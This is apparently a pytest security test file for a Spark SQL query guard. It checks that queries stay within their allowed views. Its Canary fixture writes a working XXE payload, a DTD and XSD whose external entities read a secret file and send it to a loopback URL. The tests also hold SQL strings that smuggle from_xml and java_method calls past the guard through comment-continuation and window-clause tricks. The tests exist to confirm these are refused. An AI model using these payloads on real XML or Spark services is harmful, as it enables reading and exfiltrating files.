"""A query must not leave the views of its key: the chain that read a file and sent it away, and each link alone."""

import json
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from marker_positions import positions
from py4j.protocol import Py4JJavaError
from pyspark.errors import ParseException, PySparkException

from osrdyne.errors import ConfigurationError
from osrdyne.protocol.names import Key
from osrdyne.protocol.spark_master import parse_spark_master
from osrdyne_worker import Call, Context, RequestError
from osrdyne_worker.pipelines import sql as pipeline
from osrdyne_worker.pipelines.guard.plan_guard import check_parsed
from osrdyne_worker.pipelines.guard.refusals import QueryRefusedError
from osrdyne_worker.pipelines.guard.sessions import GuardedSessions
from osrdyne_worker.pipelines.sql import SqlRequest
from osrdyne_worker.spark.plans import parse_query
from osrdyne_worker.spark.session import session_conf
from tests.security.http_server import answering

VIEWS = frozenset({"nation", "region"})
SECRET = "amqp-password-of-the-worker"


class Canary:
    """A file that no query may read, and an HTTP server on loopback that no query may reach."""

    def __init__(self, directory: Path, url: str, requests: list[str]) -> None:
        self.url, self.requests = url, requests
        secret = directory / "secret"
        secret.write_text(SECRET)
        # The document type defines an entity by the file, and a second one by a URL with its content.
        outer = directory / "outer.dtd"
        outer.write_text(f"<!ENTITY % wrap \"<!ENTITY &#37; send SYSTEM '{self.url}/?%file;'>\">")
        self.schema = directory / "schema.xsd"
        self.schema.write_text(
            f'<!DOCTYPE xs:schema [<!ENTITY % file SYSTEM "{secret.as_uri()}">'
            f'<!ENTITY % outer SYSTEM "{outer.as_uri()}"> %outer; %wrap; %send;]>'
            '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a" type="xs:string"/></xs:schema>'
        )

    def from_xml(self, *, schema: str | None = None) -> str:
        """A call that has Spark read the schema while it parses XML; all its arguments are constants."""
        options = f"map('rowTag', 'a', 'rowValidationXSDPath', '{schema or self.schema.as_uri()}')"
        return f"from_xml('<a>1</a>', 'x string', {options})"


@pytest.fixture
def canary(tmp_path):
    requests: list[str] = []

    def answer(path):
        requests.append(path)
        return 200, {}, b'<!ENTITY sent "x">'

    with answering(answer) as url:
        yield Canary(tmp_path, url, requests)


def refused(call: Call, query: str) -> RequestError:
    with pytest.raises(RequestError) as caught:
        pipeline.sql(call, SqlRequest(query=query))
    return caught.value


def nodes_of(session: Any, query: str) -> list[dict[str, Any]]:
    parsed = parse_query(session, query)
    assert parsed is not None
    found: list[dict[str, Any]] = json.loads(parsed.description)
    return found


def test_the_whole_chain_reads_no_file_and_requests_no_url(tpch_call, canary):
    call = canary.from_xml()
    chain = [
        f"select 1 as x -- \\\n, {call}",
        f"select 1 as x -- ' \\\n from values (1) window w as (partition by {call}) -- '",
        f"select sum(1) over w from values (1) t (a) window w as (partition by {call})",
        f"select sum(1) over w from nation window w as (order by {call})",
        f"select * from values ({call})",
        f"from values ({call})",
        f"select a >>> 1, {call} from values (1) t (a)",
    ]
    for query in chain:
        assert refused(tpch_call, query).code == 403, query
    assert canary.requests == []


def test_link_comment_that_goes_on_is_refused(tpch_call):
    for query in ("select 1 -- a \\\n, 2", "select 1 -- a \\\r\n, 2", "select 1 -- a\r, 2"):
        assert refused(tpch_call, query).error_code == "syntax_not_allowed"


def test_link_function_in_any_position_is_seen(tpch_call):
    """A marker in every position of the grammar: the description of the plan has it, and the check refuses it."""
    session = tpch_call.context.session
    unread, unseen = [], []
    for query in positions():
        text = query.replace("{m}", "osrdyne_marker(1)")
        try:
            parsed = parse_query(session, text)
        except ParseException:
            unread.append(query)
            continue
        assert parsed is not None
        names = [node["values"].get("nameParts") for node in json.loads(parsed.description)]
        if ["osrdyne_marker"] not in names:
            unseen.append(query)
        with pytest.raises(QueryRefusedError):
            check_parsed(parsed.description, views=VIEWS)
    newer = ["select {m}:field"] if session.version.startswith("4.0.") else []
    assert (unseen, unread) == ([], newer)
    assert len(positions()) >= 200


def test_link_nothing_is_evaluated_before_the_check(tpch_call):
    """Spark evaluates VALUES and constants while it analyses; a hidden call must not get that far."""
    session = tpch_call.context.session
    system = session._jvm.java.lang.System
    call = "java_method('java.lang.System', 'setProperty', 'osrdyne.evaluated', 'yes')"
    for query in (f"select * from values ({call})", f"from values ({call})", f"select 1 >>> length({call})",
                  f"select sum(1) over w from nation window w as (partition by {call})"):  # fmt: skip
        refused(tpch_call, query)
    kinds = [node["class"] for node in nodes_of(session, "select * from values (1 + 1)")]
    assert not any(kind.endswith("LocalRelation") for kind in kinds), "the parser has evaluated it"
    assert system.getProperty("osrdyne.evaluated") is None


def test_link_xml_in_the_jvm_requests_no_url_and_reads_no_file(tpch_call, canary):
    """The third net by itself: the call runs, as if both others had failed."""
    session = tpch_call.context.session
    for schema in (None, f"{canary.url}/schema.xsd"):
        with suppress(PySparkException, Py4JJavaError):
            rows = session.sql(f"select {canary.from_xml(schema=schema)}").collect()
            assert SECRET not in str(rows)
    assert canary.requests == []


@pytest.mark.parametrize("scheme", ["http", "https", "ftp", "sftp"])
def test_link_remote_file_systems_are_refused(tpch_call, scheme):
    with pytest.raises(Exception, match=r"osrdyne\.refused"):
        tpch_call.context.session.read.text(f"{scheme}://127.0.0.1/x").collect()


def test_options_of_the_jvm_are_added_to_the_configured_ones():
    conf = session_conf(parse_spark_master("local[1]"), {"spark.driver.extraJavaOptions": "-Xss8m"}, {}, "-Da=")
    assert conf["spark.driver.extraJavaOptions"].endswith(" -Xss8m -Da=")
    assert conf["spark.executor.extraJavaOptions"] == "-Da="


def test_spark_connect_is_refused_unless_it_is_allowed(monkeypatch):
    sessions = GuardedSessions()
    context = Context(key=Key("x"), pool="tests", worker_config={"spark": {"master": "sc://127.0.0.1:1"}})
    with pytest.raises(ConfigurationError, match="allow_unguarded"):
        sessions.build(context)
    monkeypatch.setattr("osrdyne_worker.spark.session._connect", lambda master, conf: master)
    allowed = Context(key=Key("x"), pool="tests", worker_config=context.worker_config, config={"allow_unguarded": True})
    assert sessions.build(allowed) == "sc://127.0.0.1:1"


@pytest.mark.parametrize(
    "query",
    [
        "with hidden as (select * from hidden) select * from hidden",
        "with a as (select * from hidden), hidden as (select 1 as x) select * from a",
        "select * from (with hidden as (select 1 as x) select * from hidden) t, hidden",
        "from hidden",
        "table hidden",
    ],
)
def test_name_of_a_with_clause_does_not_open_a_foreign_view(tpch_call, query):
    session = tpch_call.context.session
    session.range(3).createOrReplaceTempView("hidden")
    try:
        assert refused(tpch_call, query).error_code in ("unknown_table", "table_not_allowed")
        parsed = parse_query(session, query)
        assert parsed is not None
        with pytest.raises(QueryRefusedError):
            check_parsed(parsed.description, views=VIEWS)
    finally:
        session.catalog.dropTempView("hidden")
